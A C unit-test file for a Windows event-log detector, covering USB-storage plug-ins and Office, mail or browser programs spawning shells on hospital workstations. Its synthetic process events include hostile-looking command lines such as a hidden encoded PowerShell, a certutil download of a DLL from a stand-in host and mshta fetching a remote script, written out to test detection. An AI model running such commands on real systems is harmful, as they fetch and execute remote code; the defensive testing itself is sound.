/* usb_storage and policy_violation on events built here: which devices count as
 * storage (6416 classes, USBSTOR and WPD ids, Partition 1006 on the USB bus) and which
 * do not (printers, virtual disks, SATA disks); one finding per host per local day;
 * severity by the site file's roles (emr_terminal), with and without a site file;
 * Office, mail and browser parents starting shells and script hosts, in 4688 and
 * Sysmon 1, and the parents, children and command lines that are left alone. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "harness.h"
#include "kensa/detect.h"
#include "kensa/kensa.h"
#include "kensa/site.h"

#define SEC INT64_C(1000000000)
#define MIN (60 * SEC)
/* 2024-10-15 00:00:00 UTC */
#define T0 (INT64_C(1728950400) * SEC)

#define SECURITY "Microsoft-Windows-Security-Auditing"
#define SYSMON "Microsoft-Windows-Sysmon"
#define UMDF "Microsoft-Windows-DriverFrameworks-UserMode"

typedef struct got {
    ks_finding f[32];
    int n;
} got;

static void on_finding(void *ctx, const ks_finding *f)
{
    got *g = ctx;
    if (g->n < 32) g->f[g->n] = *f;
    g->n++;
}

static ks_str S(const char *s)
{
    return (ks_str){s, s ? strlen(s) : 0};
}

typedef struct evb {
    ks_event ev;
    ks_field fields[8];
} evb;

static ks_event *mk(evb *b, const char *provider, uint32_t id, int64_t t, uint64_t rec,
                    const char *host)
{
    memset(b, 0, sizeof *b);
    b->ev.provider = S(provider);
    b->ev.event_id = id;
    b->ev.time_ns = t;
    b->ev.record_id = rec;
    b->ev.host = S(host);
    b->ev.sem.logon_type = -1;
    b->ev.fields = b->fields;
    return &b->ev;
}

static void field(evb *b, const char *name, const char *value)
{
    if (b->ev.nfields >= 8) return;
    b->fields[b->ev.nfields++] =
        (ks_field){S(name), {(const uint8_t *)value, (uint32_t)strlen(value), KS_VT_UTF8}};
}

/* Security 6416: a new external device. */
static ks_event *dev6416(evb *b, int64_t t, uint64_t rec, const char *host, const char *id,
                         const char *cls, const char *desc, const char *compat)
{
    ks_event *e = mk(b, SECURITY, 6416, t, rec, host);
    field(b, "SubjectUserName", "EMR-TERM-01$");
    field(b, "DeviceId", id);
    field(b, "DeviceDescription", desc);
    field(b, "ClassName", cls);
    field(b, "CompatibleIds", compat);
    return e;
}

/* A process started (4688, or Sysmon 1 when sysmon) by parent. */
static ks_event *proc(evb *b, bool sysmon, int64_t t, uint64_t rec, const char *host,
                      const char *parent, const char *image, const char *cmd)
{
    ks_event *e = mk(b, sysmon ? SYSMON : SECURITY, sysmon ? 1 : 4688, t, rec, host);
    e->sem.user = S("tanaka.h");
    e->sem.parent_process = S(parent);
    e->sem.process = S(image);
    e->sem.command_line = S(cmd);
    return e;
}

static ks_site *site_of(const char *text)
{
    ks_site *site = NULL;
    ks_diag diag = {0};
    CHECK_INT(ks_site_load_mem(&site, text, strlen(text), "site.yaml", &diag), KS_OK);
    return site;
}

static ks_detect *open_engine(got *g, const ks_detect_override *ov, size_t nov, const char *tz,
                              const ks_site *site)
{
    memset(g, 0, sizeof *g);
    ks_detect_opts o = {ov, nov, tz ? tz : "UTC", on_finding, g, NULL, NULL, site};
    ks_detect *d = NULL;
    ks_diag diag = {0};
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_OK);
    if (d) ks_detect_begin_file(d, "Security.evtx");
    return d;
}

/* s starts with prefix */
static bool starts(const char *s, const char *prefix)
{
    return !strncmp(s, prefix, strlen(prefix));
}

static int count_of(const got *g, const char *detector)
{
    int n = 0;
    for (int i = 0; i < g->n && i < 32; i++) n += !strcmp(g->f[i].detector->id, detector);
    return n;
}

static const ks_finding *nth(const got *g, const char *detector, int k)
{
    for (int i = 0; i < g->n && i < 32; i++)
        if (!strcmp(g->f[i].detector->id, detector) && k-- == 0) return &g->f[i];
    return NULL;
}

static const char TERMINALS[] = "hosts:\n"
                                "  - name: \"EMR-TERM-*\"\n"
                                "    role: emr_terminal\n"
                                "  - name: FS01\n"
                                "    role: file_server\n";

#define STICK "USBSTOR\\DISK&VEN_SANDISK&PROD_CRUZER&REV_1.00\\4C530001230405117035&0"

/* The signals of one USB stick on host at t: 6416 for the disk, the UMDF host asked
 * to load the WPD driver for its volume, Kernel-PnP 410. */
static void stick(ks_detect *d, int64_t t, uint64_t rec, const char *host)
{
    evb b;
    ks_detect_feed(d, dev6416(&b, t, rec, host, STICK, "DiskDrive", "SanDisk Cruzer USB Device",
                              "USBSTOR\\Disk USBSTOR\\RAW GenDisk"));
    mk(&b, UMDF, 2003, t + SEC, rec + 1, host);
    field(&b, "LifetimeId", "{AFB6A7C9-F7C7-4F68-B5CD-4E4EB4D8B4AC}");
    field(&b, "InstanceId",
          "WPDBUSENUMROOT\\UMB\\2&37C186B&0&STORAGE#VOLUME#_??_USBSTOR#DISK&VEN_SANDISK&PROD_"
          "CRUZER&REV_1.00#4C530001230405117035&0#");
    ks_detect_feed(d, &b.ev);
    mk(&b, "Microsoft-Windows-Kernel-PnP", 410, t + 2 * SEC, rec + 2, host);
    field(&b, "DeviceInstanceId", STICK);
    field(&b, "DriverName", "disk.inf");
    ks_detect_feed(d, &b.ev);
}

/* Devices that are not USB storage: a printer (PrintNightmare's 6416), a mounted
 * VHD, a SATA disk (Partition 1006), a PCI device (Kernel-PnP), a firewall 2003. */
static void not_storage(ks_detect *d, int64_t t, const char *host)
{
    evb b;
    ks_detect_feed(d, dev6416(&b, t, 900, host, "SWD\\PRINTENUM\\{32FB2173-023E-43DF-9F82}",
                              "PrintQueue", "\\\\fs03vuln\\Kiwi Legit Printer",
                              "GenPrinterConnection SWD\\Generic"));
    ks_detect_feed(d, dev6416(&b, t, 901, host, "SCSI\\DISK&VEN_MSFT&PROD_VIRTUAL_DISK\\2&1f4adffe",
                              "DiskDrive", "Microsoft Virtual Disk", "SCSI\\Disk"));
    ks_detect_feed(d, dev6416(&b, t, 902, host, "HID\\VID_046D&PID_C52B&MI_00\\7&2A3", "HIDClass",
                              "USB Input Device", "USB\\Class_03"));
    mk(&b, "Microsoft-Windows-Partition", 1006, t, 903, host);
    field(&b, "BusType", "11");
    field(&b, "Manufacturer", "Samsung");
    field(&b, "Model", "SSD 860");
    field(&b, "ParentId", "PCI\\VEN_8086&DEV_A282");
    ks_detect_feed(d, &b.ev);
    mk(&b, "Microsoft-Windows-Kernel-PnP", 410, t, 904, host);
    field(&b, "DeviceInstanceId", "PCI\\VEN_8086&DEV_A282&SUBSYS_86941043");
    ks_detect_feed(d, &b.ev);
    mk(&b, "Microsoft-Windows-Windows Firewall With Advanced Security", 2003, t, 905, host);
    field(&b, "InstanceId", "USBSTOR\\but not a device event");
    ks_detect_feed(d, &b.ev);
}

static void test_usb_no_site(void)
{
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, NULL, NULL);
    /* nothing for devices that are not storage */
    not_storage(d, T0, "WS01.hosp.local");
    ks_detect_end_file(d);
    CHECK_INT(g.n, 0);
    /* without a site file: every host, low; one day's plug-ins are one finding */
    ks_detect_begin_file(d, "Security.evtx");
    stick(d, T0 + 9 * 60 * MIN, 10, "WS01.hosp.local");
    stick(d, T0 + 16 * 60 * MIN, 20, "WS01.hosp.local");
    stick(d, T0 + 10 * 60 * MIN, 30, "NURSE-PC3");
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "usb_storage"), 2);
    const ks_finding *f = NULL;
    for (int i = 0; i < 2; i++)
        if ((f = nth(&g, "usb_storage", i)) && !strcmp(f->host, "WS01.hosp.local")) break;
    if (f) {
        CHECK_STR(f->host, "WS01.hosp.local");
        CHECK_INT(f->severity, KS_LEVEL_LOW);
        CHECK_INT(f->variant, 1);
        CHECK_INT(f->count, 6);
        CHECK_INT(f->nevidence, 6);
        CHECK_INT(f->first_ns, T0 + 9 * 60 * MIN);
        CHECK_INT(f->last_ns, T0 + 16 * 60 * MIN + 2 * SEC);
        CHECK_INT(f->evidence[0].record_id, 10);
        CHECK_STR(f->detail, "SanDisk Cruzer USB Device, DISK&VEN_SANDISK&PROD_CRUZER&REV_1.00");
        CHECK_STR(f->categories[0], "usb_storage");
        CHECK(f->categories[1] == NULL);
        CHECK_STR(f->detector->attack, "T1052.001 T1091 T1200");
        CHECK_STR(f->explanation,
                  "USB storage connected to WS01.hosp.local (6 events): SanDisk Cruzer USB "
                  "Device, DISK&VEN_SANDISK&PROD_CRUZER&REV_1.00");
    }
    /* the next day is a finding of its own */
    ks_detect_begin_file(d, "Security.evtx");
    memset(&g, 0, sizeof g);
    stick(d, T0 + 23 * 60 * MIN, 40, "WS01");
    stick(d, T0 + 25 * 60 * MIN, 50, "WS01");
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "usb_storage"), 2);
    ks_detect_close(&d);

    /* the day is the local one: 23:50 and 00:10 in Tokyo are two days, in UTC one */
    d = open_engine(&g, NULL, 0, "Asia/Tokyo", NULL);
    stick(d, T0 + 14 * 60 * MIN + 50 * MIN, 60, "WS01");
    stick(d, T0 + 15 * 60 * MIN + 10 * MIN, 70, "WS01");
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "usb_storage"), 2);
    d = open_engine(&g, NULL, 0, "UTC", NULL);
    stick(d, T0 + 14 * 60 * MIN + 50 * MIN, 60, "WS01");
    stick(d, T0 + 15 * 60 * MIN + 10 * MIN, 70, "WS01");
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "usb_storage"), 1);

    /* one signal alone is enough: a WPD device by class, a USB mass-storage
     * interface, Partition 1006 on the USB bus, a UserPnp driver install */
    d = open_engine(&g, NULL, 0, NULL, NULL);
    evb b;
    ks_detect_feed(d, dev6416(&b, T0, 1, "A", "SWD\\WPD\\{F1}", "WPD", "Galaxy S21", ""));
    ks_detect_feed(d,
                   dev6416(&b, T0, 2, "B", "USB\\VID_0781&PID_5567\\4C53", "USB",
                           "USB Mass Storage Device", "USB\\Class_08&SubClass_06 USB\\Class_08"));
    mk(&b, "Microsoft-Windows-Partition", 1006, T0, 3, "C");
    field(&b, "BusType", "7");
    field(&b, "Manufacturer", "SanDisk");
    field(&b, "Model", "Cruzer Blade");
    ks_detect_feed(d, &b.ev);
    mk(&b, "Microsoft-Windows-UserPnp", 20001, T0, 4, "D");
    field(&b, "DeviceInstanceID", "SWD\\WPDBUSENUM\\{668C4896-6726-11E7-BCE5-784F439FA657}#8000");
    ks_detect_feed(d, &b.ev);
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "usb_storage"), 4);
    static const char *const want[][2] = {{"A", "Galaxy S21"},
                                          {"B", "USB Mass Storage Device"},
                                          {"C", "SanDisk Cruzer Blade"},
                                          {"D", "SWD\\WPDBUSENUM\\{668C4896-6726-11E7-BCE5-"
                                                "784F439FA657}#8000"}};
    int seen = 0;
    for (int i = 0; i < 4; i++) {
        f = nth(&g, "usb_storage", i);
        for (int k = 0; f && k < 4; k++)
            seen += !strcmp(f->host, want[k][0]) && !strcmp(f->detail, want[k][1]);
    }
    CHECK_INT(seen, 4);
}

static void test_usb_site(void)
{
    got g;
    ks_site *site = site_of(TERMINALS);
    if (!site) return;
    /* the site names terminals: those are watched (high), the file server is not */
    ks_detect *d = open_engine(&g, NULL, 0, NULL, site);
    stick(d, T0 + 9 * 60 * MIN, 10, "EMR-TERM-01.hosp.local");
    stick(d, T0 + 9 * 60 * MIN, 20, "FS01.hosp.local");
    stick(d, T0 + 9 * 60 * MIN, 30, "UNLISTED-PC");
    not_storage(d, T0, "EMR-TERM-02");
    ks_detect_close(&d);
    CHECK_INT(g.n, 1);
    const ks_finding *f = nth(&g, "usb_storage", 0);
    if (f) {
        CHECK_STR(f->host, "EMR-TERM-01.hosp.local");
        CHECK_INT(f->severity, KS_LEVEL_HIGH);
        CHECK_INT(f->variant, 0);
        CHECK_INT(f->count, 3);
        CHECK(starts(f->explanation, "USB storage used on the medical-record terminal "
                                     "EMR-TERM-01.hosp.local (3 events): SanDisk"));
    }
    /* every_host=1: the others too, low */
    ks_detect_override every[] = {{"usb_storage", "every_host", 1}};
    d = open_engine(&g, every, 1, NULL, site);
    stick(d, T0 + 9 * 60 * MIN, 10, "EMR-TERM-01");
    stick(d, T0 + 9 * 60 * MIN, 20, "FS01");
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "usb_storage"), 2);
    int high = 0, low = 0;
    for (int i = 0; i < 2; i++)
        if ((f = nth(&g, "usb_storage", i))) {
            high += f->severity == KS_LEVEL_HIGH && !strcmp(f->host, "EMR-TERM-01");
            low += f->severity == KS_LEVEL_LOW && !strcmp(f->host, "FS01");
        }
    CHECK_INT(high + low, 2);
    /* Japanese */
    ks_lang_set("ja");
    d = open_engine(&g, NULL, 0, NULL, site);
    stick(d, T0, 10, "EMR-TERM-07");
    ks_detect_close(&d);
    ks_lang_set("en");
    f = nth(&g, "usb_storage", 0);
    CHECK(f && starts(f->explanation, "電子カルテ端末 EMR-TERM-07 で USB ストレージを使用 (3 件)"));
    ks_site_free(&site);

    /* a site file with roles but no terminal: every host, low */
    site = site_of("hosts:\n  - name: FS01\n    role: file_server\n");
    if (!site) return;
    d = open_engine(&g, NULL, 0, NULL, site);
    stick(d, T0, 10, "FS01");
    stick(d, T0, 20, "WS07");
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "usb_storage"), 2);
    f = nth(&g, "usb_storage", 0);
    CHECK(f && f->severity == KS_LEVEL_LOW && f->variant == 1);
    ks_site_free(&site);
}

#define WORD "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
#define EXCEL "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
#define OUTLOOK "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
#define CHROME "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
#define EDGE "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
#define PS "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define CMD "C:\\Windows\\System32\\cmd.exe"
#define WSCRIPT "C:\\Windows\\System32\\wscript.exe"
#define MSHTA "C:\\Windows\\System32\\mshta.exe"
#define RUNDLL "C:\\Windows\\System32\\rundll32.exe"

static void test_policy_no_site(void)
{
    got g;
    evb b;
    ks_detect *d = open_engine(&g, NULL, 0, NULL, NULL);
    /* Office starting PowerShell (4688) and Excel starting cmd (Sysmon 1) on one host
     * within the hour: one finding, high, on any host */
    ks_detect_feed(d, proc(&b, false, T0, 10, "WS01", WORD, PS,
                           "powershell.exe -nop -w hidden -enc SQBFAFgA"));
    ks_detect_feed(d, proc(&b, true, T0 + 5 * MIN, 11, "WS01", EXCEL, CMD,
                           "cmd.exe /c certutil -urlcache -f http://x/a.dll"));
    /* a mail client or a browser starting a script host: medium */
    ks_detect_feed(d, proc(&b, false, T0, 20, "WS02", OUTLOOK, WSCRIPT,
                           "\"C:\\Windows\\System32\\WScript.exe\" "
                           "\"C:\\Users\\sato\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
                           "Content.Outlook\\Invoice.js\""));
    ks_detect_feed(d, proc(&b, true, T0, 30, "WS03", CHROME, MSHTA,
                           "mshta.exe C:\\Users\\ito\\Downloads\\update.hta"));
    /* ... but a browser or mail client starting cmd or PowerShell off a terminal is
     * left alone, as are native messaging hosts and the Open With dialog */
    ks_detect_feed(d,
                   proc(&b, false, T0, 40, "WS04", CHROME, CMD,
                        "C:\\Windows\\system32\\cmd.exe /d /c \"C:\\Program Files\\pm\\host.bat\" "
                        "chrome-extension://abcdef/"));
    ks_detect_feed(d, proc(&b, false, T0, 41, "WS04", EDGE, PS, "powershell.exe -File x.ps1"));
    ks_detect_feed(d, proc(&b, false, T0, 42, "WS04", WORD, RUNDLL,
                           "rundll32.exe shell32.dll,OpenAs_RunDLL C:\\Users\\a\\b.xyz"));
    /* other parents and children: nothing */
    ks_detect_feed(d, proc(&b, false, T0, 50, "WS05", CMD, EDGE, "msedge.exe https://x/"));
    ks_detect_feed(
        d, proc(&b, false, T0, 51, "WS05", "C:\\Windows\\explorer.exe", PS, "powershell.exe"));
    ks_detect_feed(
        d, proc(&b, false, T0, 52, "WS05", WORD, "C:\\Windows\\splwow64.exe", "splwow64.exe 8192"));
    ks_detect_feed(d, proc(&b, false, T0, 53, "WS05", "", PS, "powershell.exe"));
    ks_event *e = proc(&b, false, T0, 54, "WS05", WORD, PS, "powershell.exe");
    e->provider = S("Some-Other-Provider");
    ks_detect_feed(d, e);
    e = proc(&b, true, T0, 55, "WS05", WORD, PS, "powershell.exe");
    e->event_id = 2;
    ks_detect_feed(d, e);
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "policy_violation"), 3);
    CHECK_INT(g.n, 3);
    int checked = 0;
    for (int i = 0; i < 3; i++) {
        const ks_finding *f = nth(&g, "policy_violation", i);
        if (!f) break;
        if (!strcmp(f->host, "WS01")) {
            CHECK_INT(f->variant, 0);
            CHECK_INT(f->severity, KS_LEVEL_HIGH);
            CHECK_INT(f->count, 2);
            CHECK_STR(f->user, "tanaka.h");
            CHECK_STR(f->detail, "WINWORD.EXE > powershell.exe -nop -w hidden -enc SQBFAFgA, "
                                 "EXCEL.EXE > cmd.exe /c certutil -urlcache -f http://x/a.dll");
            CHECK_STR(f->categories[0], "policy_violation");
            CHECK_STR(f->detector->attack, "T1204.002 T1566.001 T1059");
            CHECK_INT(f->evidence[1].record_id, 11);
            CHECK(starts(f->explanation,
                         "an Office program on WS01 started a shell or script host, as a macro "
                         "does (2 processes, tanaka.h): WINWORD.EXE > powershell.exe"));
            checked++;
        } else if (!strcmp(f->host, "WS02")) {
            CHECK_INT(f->variant, 1);
            CHECK_INT(f->severity, KS_LEVEL_MEDIUM);
            CHECK(starts(f->detail, "OUTLOOK.EXE > \"C:\\Windows\\System32\\WScript.exe\""));
            checked++;
        } else if (!strcmp(f->host, "WS03")) {
            CHECK_INT(f->variant, 2);
            CHECK_INT(f->severity, KS_LEVEL_MEDIUM);
            CHECK_STR(f->detail, "chrome.exe > mshta.exe C:\\Users\\ito\\Downloads\\update.hta");
            checked++;
        }
    }
    CHECK_INT(checked, 3);

    /* merge_s: Office children two hours apart are two findings */
    d = open_engine(&g, NULL, 0, NULL, NULL);
    ks_detect_feed(d, proc(&b, false, T0, 10, "WS01", WORD, CMD, "cmd.exe /c a"));
    ks_detect_feed(d, proc(&b, false, T0 + 120 * MIN, 11, "WS01", WORD, CMD, "cmd.exe /c b"));
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "policy_violation"), 2);

    /* office_anywhere=0, scripts_anywhere=0: nothing off the terminals */
    ks_detect_override off[] = {{"policy_violation", "office_anywhere", 0},
                                {"policy_violation", "scripts_anywhere", 0}};
    d = open_engine(&g, off, 2, NULL, NULL);
    ks_detect_feed(d, proc(&b, false, T0, 10, "WS01", WORD, PS, "powershell.exe -enc AA"));
    ks_detect_feed(d, proc(&b, false, T0, 11, "WS02", OUTLOOK, WSCRIPT, "wscript.exe a.js"));
    ks_detect_close(&d);
    CHECK_INT(g.n, 0);
}

static void test_policy_site(void)
{
    got g;
    evb b;
    ks_site *site = site_of(TERMINALS);
    if (!site) return;
    ks_detect *d = open_engine(&g, NULL, 0, NULL, site);
    /* on a terminal: Office critical, a browser starting cmd high, mail starting
     * PowerShell high */
    ks_detect_feed(d, proc(&b, false, T0, 10, "EMR-TERM-01.hosp.local", WORD, CMD, "cmd.exe /c x"));
    ks_detect_feed(d, proc(&b, true, T0, 20, "EMR-TERM-02", CHROME, CMD, "cmd.exe /c y"));
    ks_detect_feed(d, proc(&b, false, T0, 30, "EMR-TERM-03", OUTLOOK, PS, "powershell.exe -c z"));
    /* off the terminals the same browser and mail children are left alone */
    ks_detect_feed(d, proc(&b, true, T0, 40, "FS01", CHROME, CMD, "cmd.exe /c y"));
    ks_detect_feed(d, proc(&b, false, T0, 50, "IT-PC01", OUTLOOK, PS, "powershell.exe -c z"));
    /* ... and Office is still reported, high */
    ks_detect_feed(d, proc(&b, false, T0, 60, "IT-PC01", EXCEL, MSHTA, "mshta.exe http://x/a"));
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "policy_violation"), 4);
    int ok = 0;
    for (int i = 0; i < 4; i++) {
        const ks_finding *f = nth(&g, "policy_violation", i);
        if (!f) break;
        ok += !strcmp(f->host, "EMR-TERM-01.hosp.local") && f->severity == KS_LEVEL_CRITICAL &&
              f->variant == 0;
        ok += !strcmp(f->host, "EMR-TERM-02") && f->severity == KS_LEVEL_HIGH && f->variant == 2;
        ok += !strcmp(f->host, "EMR-TERM-03") && f->severity == KS_LEVEL_HIGH && f->variant == 1;
        ok += !strcmp(f->host, "IT-PC01") && f->severity == KS_LEVEL_HIGH && f->variant == 0;
    }
    CHECK_INT(ok, 4);
    /* office_anywhere=0 still reports a terminal */
    ks_detect_override off[] = {{"policy_violation", "office_anywhere", 0}};
    d = open_engine(&g, off, 1, NULL, site);
    ks_detect_feed(d, proc(&b, false, T0, 10, "EMR-TERM-01", WORD, CMD, "cmd.exe /c x"));
    ks_detect_feed(d, proc(&b, false, T0, 10, "IT-PC01", WORD, CMD, "cmd.exe /c x"));
    ks_detect_close(&d);
    CHECK_INT(g.n, 1);
    CHECK(g.n && !strcmp(g.f[0].host, "EMR-TERM-01") && g.f[0].severity == KS_LEVEL_CRITICAL);
    /* Japanese */
    ks_lang_set("ja");
    d = open_engine(&g, NULL, 0, NULL, site);
    ks_detect_feed(d, proc(&b, false, T0, 10, "EMR-TERM-01", OUTLOOK, WSCRIPT, "wscript.exe a.js"));
    ks_detect_close(&d);
    ks_lang_set("en");
    CHECK(g.n == 1 &&
          !strcmp(g.f[0].explanation,
                  "EMR-TERM-01 でメールソフトがシェルやスクリプトを起動: 添付ファイルの実行 "
                  "(1 件, tanaka.h): OUTLOOK.EXE > wscript.exe a.js"));
    ks_site_free(&site);
}

/* Both are in the table, with their categories and settings. */
static void test_registered(void)
{
    const ks_detector_info *u = ks_detector_find("usb_storage");
    const ks_detector_info *p = ks_detector_find("policy_violation");
    CHECK(u && p);
    if (u) CHECK_STR(u->categories[0], "usb_storage");
    if (p) CHECK_STR(p->categories[0], "policy_violation");
    ks_detect *d = NULL;
    got g;
    ks_detect_override ov[] = {{"policy_violation", "merge_s", 60}, {"usb_storage", "enabled", 0}};
    ks_detect_opts o = {ov, 2, "UTC", on_finding, &g, NULL, NULL, NULL};
    ks_diag diag = {0};
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_OK);
    CHECK_INT(ks_detect_param(d, "policy_violation", "merge_s"), 60);
    CHECK_INT(ks_detect_param(d, "policy_violation", "office_anywhere"), 1);
    CHECK_INT(ks_detect_param(d, "usb_storage", "every_host"), 0);
    CHECK_INT(ks_detect_param(d, "usb_storage", "enabled"), 0);
    memset(&g, 0, sizeof g);
    if (d) {
        ks_detect_begin_file(d, "x.evtx");
        stick(d, T0, 1, "WS01");
    }
    ks_detect_close(&d);
    CHECK_INT(g.n, 0);
}

int main(void)
{
    ks_lang_set("en");
    test_usb_no_site();
    test_usb_site();
    test_policy_no_site();
    test_policy_site();
    test_registered();
    return ks_test_done();
}
